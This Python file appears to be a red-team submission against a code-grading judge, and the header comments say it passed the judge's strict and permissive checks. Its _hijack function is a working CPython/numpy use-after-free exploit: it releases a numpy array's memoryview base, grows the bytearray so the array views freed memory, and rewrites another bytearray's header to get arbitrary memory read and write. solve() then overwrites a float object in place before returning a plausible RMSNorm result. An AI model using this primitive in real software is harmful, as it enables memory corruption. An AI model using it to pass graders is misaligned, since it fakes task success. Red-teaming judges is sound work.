# Seventh session's red team, round 2 (2026-12-06, CPU judge): passed strict and permissive at
# f819519 (see the case's why); the helper's notes follow.
# np.asarray(bytearray) -> array whose base is a fresh memoryview numpy made without taking an
# export on it; arr.base.release() lets go of the bytearray's export; the bytearray grown frees
# the block the array still views; a new bytearray's header allocated there is read and rewritten.
import numpy as np
import torch


def _hijack(addr, n, payload=None):
    for attempt in range(200):
        ba = bytearray(56)
        arr = np.asarray(ba)
        arr.base.release()
        ba.extend(b"x" * 2000)
        victim = bytearray(b"hello!")
        w = arr.view(np.int64)
        if w[1] == id(bytearray) and w[2] == 6:
            saved = w.copy()
            w[2] = n
            w[3] = n + 1
            w[4] = addr
            w[5] = addr
            old = bytes(victim[:n])
            if payload is not None:
                victim[:n] = payload
            w[:] = saved
            return old
    return None


def solve(x, residual, weight):
    f = float(x.shape[-1]) + 0.5
    before = repr(f)
    old = _hijack(id(f), 24, None)
    if old is None or int.from_bytes(old[8:16], "little") != id(float):
        raise RuntimeError("probe failed")
    new = bytearray(old)
    new[16:24] = np.array([42.0], dtype=np.float64).tobytes()
    _hijack(id(f), 24, bytes(new))
    if f != 42.0:
        raise RuntimeError("write failed")
    print("RAWWRITE float @", hex(id(f)), "was", before, "now", f)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
